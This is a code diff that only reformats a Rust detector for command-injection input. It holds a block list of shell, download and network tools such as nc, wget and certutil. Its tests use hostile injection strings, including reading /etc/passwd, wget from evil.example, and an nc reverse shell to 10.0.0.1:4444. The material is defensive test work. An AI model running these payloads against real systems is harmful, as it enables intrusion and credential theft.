@@ -9,13 +9,85 @@ use palisade_types::{Category, Signal};
 
 /// Commands attackers run first: recon, download-and-run, shells, reverse connections.
 const COMMANDS: &[&str] = &[
-    "cat", "ls", "id", "whoami", "uname", "pwd", "wget", "curl", "nc", "ncat", "netcat", "bash", "sh", "zsh",
-    "ksh", "dash", "python", "python3", "perl", "ruby", "php", "ping", "nslookup", "dig", "sleep", "echo",
-    "rm", "chmod", "chown", "kill", "ps", "netstat", "ifconfig", "ip", "env", "printenv", "head", "tail",
-    "more", "less", "cp", "mv", "touch", "mkfifo", "telnet", "ssh", "scp", "powershell", "cmd", "cmd.exe",
-    "net", "ipconfig", "systeminfo", "tasklist", "certutil", "bitsadmin", "type", "dir", "base64", "xxd",
-    "nohup", "crontab", "useradd", "passwd", "hostname", "find", "grep", "awk", "sed", "tftp", "ftp",
-    "busybox", "timeout", "exec", "eval", "/bin/sh", "/bin/bash", "/usr/bin/id", "/bin/cat",
+    "cat",
+    "ls",
+    "id",
+    "whoami",
+    "uname",
+    "pwd",
+    "wget",
+    "curl",
+    "nc",
+    "ncat",
+    "netcat",
+    "bash",
+    "sh",
+    "zsh",
+    "ksh",
+    "dash",
+    "python",
+    "python3",
+    "perl",
+    "ruby",
+    "php",
+    "ping",
+    "nslookup",
+    "dig",
+    "sleep",
+    "echo",
+    "rm",
+    "chmod",
+    "chown",
+    "kill",
+    "ps",
+    "netstat",
+    "ifconfig",
+    "ip",
+    "env",
+    "printenv",
+    "head",
+    "tail",
+    "more",
+    "less",
+    "cp",
+    "mv",
+    "touch",
+    "mkfifo",
+    "telnet",
+    "ssh",
+    "scp",
+    "powershell",
+    "cmd",
+    "cmd.exe",
+    "net",
+    "ipconfig",
+    "systeminfo",
+    "tasklist",
+    "certutil",
+    "bitsadmin",
+    "type",
+    "dir",
+    "base64",
+    "xxd",
+    "nohup",
+    "crontab",
+    "useradd",
+    "passwd",
+    "hostname",
+    "find",
+    "grep",
+    "awk",
+    "sed",
+    "tftp",
+    "ftp",
+    "busybox",
+    "timeout",
+    "exec",
+    "eval",
+    "/bin/sh",
+    "/bin/bash",
+    "/usr/bin/id",
+    "/bin/cat",
 ];
 
 pub struct Rce {
@@ -35,9 +107,17 @@ impl Rce {
     }
 
     fn first_word(s: &str) -> &str {
-        let s = s.trim_start_matches(|c: char| c.is_whitespace() || matches!(c, '(' | '{' | '\'' | '"' | '!'));
+        let s = s.trim_start_matches(|c: char| {
+            c.is_whitespace() || matches!(c, '(' | '{' | '\'' | '"' | '!')
+        });
         let end = s
-            .find(|c: char| c.is_whitespace() || matches!(c, ';' | '|' | '&' | '`' | ')' | '<' | '>' | '$' | '\'' | '"' | '}'))
+            .find(|c: char| {
+                c.is_whitespace()
+                    || matches!(
+                        c,
+                        ';' | '|' | '&' | '`' | ')' | '<' | '>' | '$' | '\'' | '"' | '}'
+                    )
+            })
             .unwrap_or(s.len());
         &s[..end]
     }
@@ -49,15 +129,18 @@ impl Rce {
             let word = Self::first_word(rest).to_ascii_lowercase();
             let word = word.replace(['\'', '"', '\\'], "");
             let base = word.rsplit('/').next().unwrap_or(&word);
-            let is_cmd = COMMANDS.contains(&word.as_str()) || (word.starts_with('/') && COMMANDS.contains(&base));
+            let is_cmd = COMMANDS.contains(&word.as_str())
+                || (word.starts_with('/') && COMMANDS.contains(&base));
             if !is_cmd {
                 continue;
             }
             // In prose, "a; cat" or "x | more" read as text: require something shell-like after
             // the command (an argument with '/', '-', '$', a redirection), or a substitution.
-            let after = &rest[rest.find(&Self::first_word(rest)[..]).map_or(0, |p| p + Self::first_word(rest).len())..];
-            let argish = after.trim_start().starts_with(['-', '/', '$', '<', '>', '|', ';', '`', '\'', '"', '.', '~', '%'])
-                || after.trim().is_empty()
+            let word_raw = Self::first_word(rest);
+            let after = &rest[rest.find(word_raw).map_or(0, |p| p + word_raw.len())..];
+            let argish = after.trim_start().starts_with([
+                '-', '/', '$', '<', '>', '|', ';', '`', '\'', '"', '.', '~', '%',
+            ]) || after.trim().is_empty()
                 || after.contains("/");
             let substitution = matches!(sep, "`" | "$(");
             if substitution && (rest.contains('`') || rest.contains(')')) {
@@ -102,14 +185,30 @@ mod tests {
 
     #[test]
     fn command_chains_are_caught() {
-        for s in ["; cat /etc/passwd", "127.0.0.1 | id", "x && wget http://evil.example/a.sh", "`whoami`", "$(id)", "a;/bin/sh -i", "1 | nc 10.0.0.1 4444 -e /bin/sh", "test\nls -la"] {
+        for s in [
+            "; cat /etc/passwd",
+            "127.0.0.1 | id",
+            "x && wget http://evil.example/a.sh",
+            "`whoami`",
+            "$(id)",
+            "a;/bin/sh -i",
+            "1 | nc 10.0.0.1 4444 -e /bin/sh",
+            "test\nls -la",
+        ] {
             assert!(hit(s), "missed: {s}");
         }
     }
 
     #[test]
     fn markdown_and_prose_stay_clean() {
-        for s in ["Use `setTimeout` to defer", "Tom & Jerry", "salt; pepper; cat food", "this | that", "see `README.md`", "a && b are both true"] {
+        for s in [
+            "Use `setTimeout` to defer",
+            "Tom & Jerry",
+            "salt; pepper; cat food",
+            "this | that",
+            "see `README.md`",
+            "a && b are both true",
+        ] {
             assert!(!hit(s), "false positive: {s}");
         }
     }
